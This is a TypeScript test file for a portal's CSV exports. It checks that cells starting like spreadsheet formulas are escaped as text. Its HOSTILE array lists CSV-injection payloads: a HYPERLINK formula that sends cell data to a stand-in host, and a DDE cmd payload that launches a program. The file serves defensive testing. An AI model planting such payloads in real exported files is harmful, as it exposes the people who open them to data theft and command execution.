/**
 * Every CSV the portal writes is opened in a spreadsheet by someone else: a
 * cell that starts like a formula (= + - @ tab CR) must arrive as text, never
 * run (OWASP "CSV injection").
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { registrationsCsv } from '../../src/server/events/registrations/registration-export';
import type { EventRegistrationRow } from '../../src/server/events/registrations/registration-reads';
import { csvStream } from '../../src/server/open-data/encode';

const HOSTILE = [
  '=HYPERLINK("http://example.test/?"&A1,"Xem")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1',
  '\r=1',
];

describe('CSV exports', () => {
  it('write a registration note that starts like a formula as text, and a phone +84… still readable', () => {
    const row = (note: string): EventRegistrationRow => ({
      id: 'r1',
      status: 'pending',
      booths: 1,
      boothLabel: null,
      note,
      createdAt: new Date('2026-11-24T03:00:00Z'),
      updatedAt: new Date('2026-11-24T03:00:00Z'),
      cooperative: {
        id: 'c1',
        slug: 'htx',
        name: 'HTX Thử',
        provinceNameVi: 'Hà Nội',
        provinceNameEn: 'Ha Noi',
        phone: '+84912345678',
        email: 'htx@example.test',
      },
      products: [],
    });
    const records: string[][] = parse(registrationsCsv(HOSTILE.map(row)).replace(/^\uFEFF/, ''));
    const note = records[0]!.indexOf('note');
    expect(records.slice(1).map((record) => record[note])).toEqual(HOSTILE.map((cell) => `'${cell}`));
    expect(records[1]![records[0]!.indexOf('phone')]).toBe("'+84912345678");
  });

  it('write open data cells that start like a formula as text, numbers as they are', async () => {
    async function* pages() {
      yield HOSTILE.map((name, i) => ({ name, change: -i }));
    }
    const text = await new Response(csvStream(['name', 'change'], pages())).text();
    const records: string[][] = parse(text.replace(/^\uFEFF/, ''));
    expect(records.slice(1)).toEqual(HOSTILE.map((name, i) => [`'${name}`, String(-i)]));
  });
});
